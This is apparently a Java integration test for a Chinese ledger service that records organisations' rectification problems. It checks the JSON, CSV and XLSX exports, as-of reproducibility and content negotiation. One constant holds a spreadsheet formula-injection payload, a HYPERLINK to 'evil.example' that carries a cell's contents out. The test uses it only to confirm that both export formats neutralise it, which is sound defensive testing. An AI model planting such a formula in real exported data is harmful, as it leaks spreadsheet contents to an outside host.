package org.jingzhun.rectification;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jingzhun.contracts.Sector;
import org.jingzhun.contracts.Tier;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The ledger of an organization and of its subtree, as JSON, CSV and XLSX, each read back the way a clerk's
 * spreadsheet program reads it: the CSV with a CSV parser, the XLSX with Apache POI.
 */
class LedgerIntegrationTest {

    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    /** Quotes, a comma and a line break: what a hand-written CSV writer gets wrong. */
    private static final String TRICKY = "台账\"不完整\", 缺\n三户";
    /** What a spreadsheet program would run as a formula if the export let it. */
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
    private static final List<String> CLERK_HEADER = List.of("序号", "组织", "问题描述", "问题来源", "聚焦方面", "专项整治",
            "责任人", "整改时限", "整改措施", "状态", "是否逾期", "整改完成时间", "整改情况", "佐证材料", "销号人", "登记时间");
    private static final ServiceUnderTest service = ServiceUnderTest.get();
    private static final DataFormatter shown = new DataFormatter();
    private static String campaign;
    private static String town;
    private static String village;
    private static String townProblem;
    private static String villageProblem;

    @BeforeAll
    static void logProblemsInATownAndOneOfItsVillages() {
        campaign = service.campaign();
        town = service.organization("兴隆镇党委", Tier.SECTION, Sector.TOWNSHIP, null);
        village = service.organization("龙凤村党支部", Tier.BRANCH, Sector.VILLAGE, town);
        HttpResponse<String> launched = service.send("POST", "/api/special-rectifications",
                "{\"campaignId\":\"" + campaign + "\",\"title\":\"营商环境不优专项整治\"}");
        ok(launched);
        townProblem = log(town, "营商环境不优", "\"specialRectificationId\":\""
                + ServiceUnderTest.json(launched).at("/id").asText() + "\",");
        villageProblem = log(village, TRICKY, "");
        ok(service.send("POST", "/api/problems/" + villageProblem + "/measures",
                "{\"measures\":[{\"description\":\"逐户核对\",\"due\":\"2099-10-15\"}]}"));
        ok(service.send("POST", "/api/problems/" + villageProblem + "/rectify", "{\"evidence\":\"已补齐\","
                + "\"attachments\":[{\"name\":\"台账.jpg\",\"sha256\":\"" + "ab".repeat(32) + "\"}]}"));
    }

    @Test
    void answersJsonWithTheEventPosition() {
        HttpResponse<String> response = service.send("GET", "/api/organizations/" + town + "/ledger?includeSubtree=true",
                null, "application/json");
        assertThat(response.statusCode()).as(response.body()).isEqualTo(200);
        JsonNode ledger = ServiceUnderTest.json(response);

        assertThat(ledger.at("/organizationName").asText()).isEqualTo("兴隆镇党委");
        assertThat(ledger.at("/problems").asInt()).isEqualTo(2);
        // ProblemLogged of both (sequence 0), then measures and rectification of the village's (1, 2).
        assertThat(ledger.at("/events").asLong()).isEqualTo(4);
        assertThat(ledger.at("/rows/0/problemId").asText()).isEqualTo(townProblem);
        assertThat(ledger.at("/rows/0/specialRectificationTitle").asText()).isEqualTo("营商环境不优专项整治");
        assertThat(ledger.at("/rows/1/problemId").asText()).isEqualTo(villageProblem);
        assertThat(ledger.at("/rows/1/sequence").asLong()).isEqualTo(2);
        assertThat(ledger.at("/rows/1/rectifiedAt").asText()).isEqualTo(ledger.at("/rows/1/lastEventAt").asText());
        assertThat(ledger.at("/lastEventAt").asText()).isEqualTo(ledger.at("/rows/1/lastEventAt").asText());
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Events")).contains("4");
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Last-Event-At"))
                .contains(ledger.at("/lastEventAt").asText());
    }

    @Test
    void leavesTheSubtreeOutUnlessAskedFor() {
        JsonNode ledger = ServiceUnderTest.json(service.send("GET", "/api/organizations/" + town + "/ledger", null,
                "application/json"));
        assertThat(ledger.at("/rows")).hasSize(1);
        assertThat(ledger.at("/rows/0/problemId").asText()).isEqualTo(townProblem);
    }

    @Test
    void exportsCsvThatExcelOpensAsUtf8WithChineseHeadersAndTheDetailsInHttpHeaders() throws IOException {
        HttpResponse<byte[]> response = service.bytes("/api/organizations/" + town + "/ledger?includeSubtree=true",
                "text/csv");
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type ->
                assertThat(type).startsWith("text/csv"));
        assertThat(response.headers().firstValue("Content-Disposition")).hasValueSatisfying(disposition ->
                assertThat(disposition).startsWith("attachment").contains(".csv"));
        assertThat(response.body()).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(response.body(), StandardCharsets.UTF_8).substring(1);
        assertThat(text.lines()).noneMatch(line -> line.startsWith("#"));
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Organization-Id")).contains(town);
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Organization-Name")
                .map(name -> URLDecoder.decode(name, StandardCharsets.UTF_8))).contains("兴隆镇党委");
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Include-Subtree")).contains("true");
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Problems")).contains("2");
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Events")).contains("4");
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Last-Event-At")).isNotEmpty();
        assertThat(response.headers().firstValue("Jingzhun-Ledger-Generated-At").map(OffsetDateTime::parse))
                .isNotEmpty();

        try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180.builder()
                .setHeader().setSkipHeaderRecord(true).get())) {
            List<CSVRecord> records = parser.getRecords();

            assertThat(parser.getHeaderNames()).isEqualTo(CLERK_HEADER);
            assertThat(records).hasSize(2);
            CSVRecord townRow = records.get(0);
            assertThat(townRow.get("序号")).isEqualTo("1");
            assertThat(townRow.get("组织")).isEqualTo("兴隆镇党委");
            assertThat(townRow.get("专项整治")).isEqualTo("营商环境不优专项整治");
            assertThat(townRow.get("状态")).isEqualTo("已登记");
            assertThat(townRow.get("整改完成时间")).isEmpty();
            CSVRecord villageRow = records.get(1);
            assertThat(villageRow.get("序号")).isEqualTo("2");
            assertThat(villageRow.get("组织")).isEqualTo("龙凤村党支部");
            assertThat(villageRow.get("问题描述")).isEqualTo(TRICKY);
            assertThat(villageRow.get("问题来源")).isEqualTo("自查");
            assertThat(villageRow.get("聚焦方面")).isEqualTo("脱贫攻坚");
            assertThat(villageRow.get("责任人")).isEqualTo("支部书记");
            assertThat(villageRow.get("整改时限")).isEqualTo("2099-10-31");
            assertThat(villageRow.get("整改措施")).isEqualTo("1. 逐户核对（2099-10-15 前）");
            assertThat(villageRow.get("状态")).isEqualTo("已整改");
            assertThat(villageRow.get("是否逾期")).isEqualTo("否");
            assertThat(villageRow.get("整改完成时间")).matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}");
            assertThat(villageRow.get("整改情况")).isEqualTo("已补齐");
            assertThat(villageRow.get("佐证材料")).isEqualTo("台账.jpg");
            assertThat(villageRow.get("登记时间")).matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}");
        }
    }

    @Test
    void exportsXlsxAClerkCanUse() throws IOException {
        HttpResponse<byte[]> response = service.bytes("/api/organizations/" + town + "/ledger?includeSubtree=true",
                XLSX);
        assertThat(response.statusCode()).isEqualTo(200);
        assertThat(response.headers().firstValue("Content-Type")).contains(XLSX);
        Instant lastEventAt = Instant.parse(response.headers().firstValue("Jingzhun-Ledger-Last-Event-At").orElseThrow());

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(response.body()))) {
            Sheet sheet = workbook.getSheet("整改台账");
            assertThat(shown(sheet.getRow(0).getCell(0))).startsWith("兴隆镇党委（含下级组织）整改台账")
                    .contains("数据截至 ").contains("问题 2 个").contains("反映事件 4 个");
            assertThat(sheet.getMergedRegions()).anySatisfy(region ->
                    assertThat(region.formatAsString()).isEqualTo("A1:P1"));
            assertThat(texts(sheet.getRow(1))).isEqualTo(CLERK_HEADER);
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 2);
            assertThat(sheet.getColumnWidth(CLERK_HEADER.indexOf("问题描述")))
                    .isGreaterThan(3 * sheet.getColumnWidth(CLERK_HEADER.indexOf("序号")));
            assertThat(sheet.getLastRowNum()).isEqualTo(3);

            Map<String, Cell> townRow = row(sheet.getRow(2));
            assertThat(townRow.get("序号").getNumericCellValue()).isEqualTo(1);
            assertThat(shown(townRow.get("组织"))).isEqualTo("兴隆镇党委");
            assertThat(shown(townRow.get("专项整治"))).isEqualTo("营商环境不优专项整治");
            Map<String, Cell> villageRow = row(sheet.getRow(3));
            assertThat(shown(villageRow.get("组织"))).isEqualTo("龙凤村党支部");
            assertThat(shown(villageRow.get("问题描述"))).isEqualTo(TRICKY);
            assertThat(shown(villageRow.get("问题来源"))).isEqualTo("自查");
            assertThat(shown(villageRow.get("聚焦方面"))).isEqualTo("脱贫攻坚");
            assertThat(shown(villageRow.get("状态"))).isEqualTo("已整改");
            Cell deadline = villageRow.get("整改时限");
            assertThat(DateUtil.isCellDateFormatted(deadline)).isTrue();
            assertThat(deadline.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2099, 10, 31));
            assertThat(shown(deadline)).isEqualTo("2099-10-31");
            for (String dateTime : List.of("整改完成时间", "登记时间")) {
                assertThat(DateUtil.isCellDateFormatted(villageRow.get(dateTime))).as(dateTime).isTrue();
                assertThat(shown(villageRow.get(dateTime))).as(dateTime)
                        .matches("\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}:\\d{2}");
            }

            Map<String, String> position = pairs(workbook.getSheet("生成依据"));
            assertThat(position).containsEntry("组织", "兴隆镇党委").containsEntry("组织编号", town)
                    .containsEntry("含下级组织", "是").containsEntry("问题数", "2").containsEntry("事件数", "4");
            assertThat(OffsetDateTime.parse(position.get("最后事件时间（asOf）")).toInstant()).isEqualTo(lastEventAt);
        }
    }

    @Test
    void neutralisesFormulasInBothFormats() throws IOException {
        String branch = service.organization("茶园村党支部", Tier.BRANCH, Sector.VILLAGE, null);
        log(branch, FORMULA, "");
        String path = "/api/organizations/" + branch + "/ledger";

        String csv = new String(service.bytes(path, "text/csv").body(), StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(csv), CSVFormat.RFC4180.builder()
                .setHeader().setSkipHeaderRecord(true).get())) {
            assertThat(parser.getRecords().get(0).get("问题描述")).isEqualTo("'" + FORMULA);
        }
        // Every field quoted, as OWASP advises, so no separator inside the text can start a new cell.
        assertThat(csv.lines().skip(1).findFirst().orElseThrow()).startsWith("\"1\",\"茶园村党支部\",\"'=HYPERLINK(");

        for (String lang : List.of("", "&lang=en")) {
            byte[] xlsx = service.bytes(path + "?format=xlsx" + lang, "*/*").body();
            try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
                Sheet sheet = workbook.getSheetAt(0);
                List<Cell> cells = new ArrayList<>();
                sheet.forEach(row -> row.forEach(cells::add));
                assertThat(cells).as("no formula cell" + lang).noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
                assertThat(cells).as(lang).anySatisfy(cell -> {
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    assertThat(cell.getStringCellValue()).isEqualTo(FORMULA);
                });
            }
        }
        // The machines' CSV is neutralised too: it may still end up in a spreadsheet program.
        try (CSVParser parser = CSVParser.parse(new StringReader(new String(service.bytes(path + "?lang=en",
                "text/csv").body(), StandardCharsets.UTF_8)), CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get())) {
            assertThat(parser.getRecords().get(0).get("description")).isEqualTo("'" + FORMULA);
        }
    }

    @Test
    void keepsEnglishHeadersCodesAndIdsForMachines() throws IOException {
        String path = "/api/organizations/" + town + "/ledger?includeSubtree=true&lang=en";
        byte[] csv = service.bytes(path, "text/csv").body();
        assertThat(csv[0]).as("no byte-order mark").isEqualTo((byte) '"');
        try (CSVParser parser = CSVParser.parse(new StringReader(new String(csv, StandardCharsets.UTF_8)),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(parser.getHeaderNames()).startsWith("problemId", "organizationId", "organizationName",
                    "campaignId", "focusArea", "source");
            CSVRecord villageRow = records.get(1);
            assertThat(villageRow.get("problemId")).isEqualTo(villageProblem);
            assertThat(villageRow.get("organizationId")).isEqualTo(village);
            assertThat(villageRow.get("source")).isEqualTo("SELF_INSPECTION");
            assertThat(villageRow.get("focusArea")).isEqualTo("POVERTY_ALLEVIATION");
            assertThat(villageRow.get("status")).isEqualTo("RECTIFIED");
            assertThat(villageRow.get("deadline")).isEqualTo("2099-10-31T23:59:59+08:00");
            assertThat(villageRow.get("measures")).isEqualTo("2099-10-15 逐户核对");
            assertThat(villageRow.get("attachments")).isEqualTo("台账.jpg sha256:" + "ab".repeat(32));
            assertThat(villageRow.get("sequence")).isEqualTo("2");
            assertThat(records.get(0).get("verifiedBy")).isEmpty();
        }

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(service.bytes(path, XLSX).body()))) {
            Sheet sheet = workbook.getSheet("ledger");
            List<String> header = texts(sheet.getRow(0));
            assertThat(header).startsWith("problemId", "organizationId");
            assertThat(shown(sheet.getRow(2).getCell(header.indexOf("status")))).isEqualTo("RECTIFIED");
            assertThat(shown(sheet.getRow(2).getCell(header.indexOf("problemId")))).isEqualTo(villageProblem);
            assertThat(pairs(workbook.getSheet("position"))).containsEntry("organizationId", town)
                    .containsEntry("events", "4");
        }

        HttpResponse<String> bad = service.send("GET", path.replace("lang=en", "lang=fr"), null, "text/csv");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(ServiceUnderTest.json(bad).at("/errors/0/field").asText()).isEqualTo("lang");
    }

    @Test
    void generatesTheSameFileAgainAsOfThePositionItStates() throws IOException {
        String branch = service.organization("茅坪村党支部", Tier.BRANCH, Sector.VILLAGE, null);
        String problem = log(branch, "三会一课记录不全", "");
        HttpResponse<byte[]> then = service.bytes("/api/organizations/" + branch + "/ledger", "text/csv");
        byte[] thenXlsx = service.bytes("/api/organizations/" + branch + "/ledger", XLSX).body();
        String lastEventAt = then.headers().firstValue("Jingzhun-Ledger-Last-Event-At").orElseThrow();

        ok(service.send("POST", "/api/problems/" + problem + "/rectify", "{\"evidence\":\"已补记\"}"));
        log(branch, "党员活动室闲置", "");
        HttpResponse<byte[]> now = service.bytes("/api/organizations/" + branch + "/ledger", "text/csv");
        assertThat(now.body()).isNotEqualTo(then.body());

        String asOf = "/api/organizations/" + branch + "/ledger?asOf="
                + URLEncoder.encode(lastEventAt, StandardCharsets.UTF_8);
        HttpResponse<byte[]> again = service.bytes(asOf, "text/csv");
        assertThat(again.statusCode()).isEqualTo(200);
        assertThat(new String(again.body(), StandardCharsets.UTF_8))
                .isEqualTo(new String(then.body(), StandardCharsets.UTF_8));
        assertThat(again.headers().firstValue("Jingzhun-Ledger-Events")).contains("1");
        assertThat(again.headers().firstValue("Jingzhun-Ledger-As-Of")).isNotEmpty();
        // Tied to the hash-chained log: the same event-store position and chain root, which the JSON's rows give.
        String position = then.headers().firstValue("Jingzhun-Ledger-Position").orElseThrow();
        String chainRoot = then.headers().firstValue("Jingzhun-Ledger-Chain-Root").orElseThrow();
        assertThat(Long.parseLong(position)).isPositive();
        assertThat(again.headers().firstValue("Jingzhun-Ledger-Position")).contains(position);
        assertThat(again.headers().firstValue("Jingzhun-Ledger-Chain-Root")).contains(chainRoot);
        assertThat(now.headers().firstValue("Jingzhun-Ledger-Chain-Root")).isNotEqualTo(java.util.Optional.of(chainRoot));
        JsonNode json = ServiceUnderTest.json(service.send("GET", asOf.replace("?", "?format=json&"), null,
                "application/json"));
        JsonNode row = json.at("/rows/0");
        assertThat(row.get("hash").asText()).matches("[0-9a-f]{64}");
        assertThat(json.get("chainRoot").asText()).isEqualTo(chainRoot).isEqualTo(java.util.HexFormat.of()
                .formatHex(org.jingzhun.contracts.audit.Checkpoint.root(List.of(row.get("hash").asText()))));
        // The head named is the problem's event at the row's sequence in the event store, with that hash.
        assertThat(service.database().sql("""
                        SELECT convert_from(meta_data, 'UTF8') FROM domain_event_entry
                        WHERE event_identifier = :id AND aggregate_identifier = :problem AND sequence_number = :sequence
                          AND global_index = :position""")
                .param("id", row.get("eventId").asText()).param("problem", problem)
                .param("sequence", row.get("sequence").asLong()).param("position", Long.parseLong(position))
                .query(String.class).single()).contains(row.get("hash").asText());
        // The workbook too shows the same cells (its file carries a creation time of its own).
        assertThat(everyCell(service.bytes(asOf, XLSX).body())).isEqualTo(everyCell(thenXlsx));

        JsonNode before = ServiceUnderTest.json(service.send("GET", "/api/organizations/" + branch
                + "/ledger?asOf=2000-01-01T00:00:00Z", null, "application/json"));
        assertThat(before.at("/rows")).isEmpty();
        HttpResponse<String> bad = service.send("GET", "/api/organizations/" + branch + "/ledger?asOf=yesterday", null,
                "application/json");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(ServiceUnderTest.json(bad).at("/errors/0/field").asText()).isEqualTo("asOf");
    }

    @Test
    void negotiatesTheFormatAndRefusesWhatItCannotOffer() {
        assertThat(service.bytes("/api/organizations/" + town + "/ledger", "text/csv;q=0.5, " + XLSX)
                .headers().firstValue("Content-Type")).contains(XLSX);
        assertThat(service.bytes("/api/organizations/" + town + "/ledger?format=csv", "*/*")
                .headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).startsWith("text/csv"));
        assertThat(service.bytes("/api/organizations/" + town + "/ledger", "*/*")
                .headers().firstValue("Content-Type")).hasValueSatisfying(type ->
                assertThat(type).startsWith("application/json"));
        assertThat(service.bytes("/api/organizations/" + town + "/ledger", "application/pdf").statusCode())
                .isEqualTo(406);
        assertThat(service.bytes("/api/organizations/" + ServiceUnderTest.id("none") + "/ledger", "application/json")
                .statusCode()).isEqualTo(404);
    }

    private static String log(String organization, String description, String more) {
        HttpResponse<String> response = service.send("POST", "/api/problems", "{\"orgId\":\"" + organization
                + "\",\"campaignId\":\"" + campaign + "\",\"focusArea\":\"POVERTY_ALLEVIATION\"," + more
                + "\"source\":\"SELF_INSPECTION\",\"description\":" + jsonString(description)
                + ",\"owner\":\"支部书记\",\"deadline\":\"2099-10-31\"}");
        ok(response);
        return ServiceUnderTest.json(response).at("/id").asText();
    }

    private static String jsonString(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }

    private static void ok(HttpResponse<String> response) {
        assertThat(response.statusCode()).as(response.body()).isBetween(200, 201);
    }

    /** A cell as a spreadsheet program shows it, with its number format applied. */
    private static String shown(Cell cell) {
        return cell == null ? "" : shown.formatCellValue(cell);
    }

    private static List<String> texts(Row row) {
        List<String> texts = new ArrayList<>();
        row.forEach(cell -> texts.add(shown(cell)));
        return texts;
    }

    /** A row of the clerk's sheet by header. */
    private static Map<String, Cell> row(Row row) {
        Map<String, Cell> cells = new HashMap<>();
        for (int i = 0; i < CLERK_HEADER.size(); i++) {
            cells.put(CLERK_HEADER.get(i), row.getCell(i));
        }
        return cells;
    }

    /** The position sheet: a header row, then one name and value per row. */
    private static Map<String, String> pairs(Sheet sheet) {
        Map<String, String> pairs = new HashMap<>();
        for (int r = 1; r <= sheet.getLastRowNum(); r++) {
            pairs.put(shown(sheet.getRow(r).getCell(0)), shown(sheet.getRow(r).getCell(1)));
        }
        return pairs;
    }

    private static List<String> everyCell(byte[] xlsx) throws IOException {
        List<String> cells = new ArrayList<>();
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            workbook.forEach(sheet -> sheet.forEach(row -> row.forEach(cell ->
                    cells.add(sheet.getSheetName() + "!" + cell.getAddress() + "=" + shown(cell)))));
        }
        return cells;
    }
}
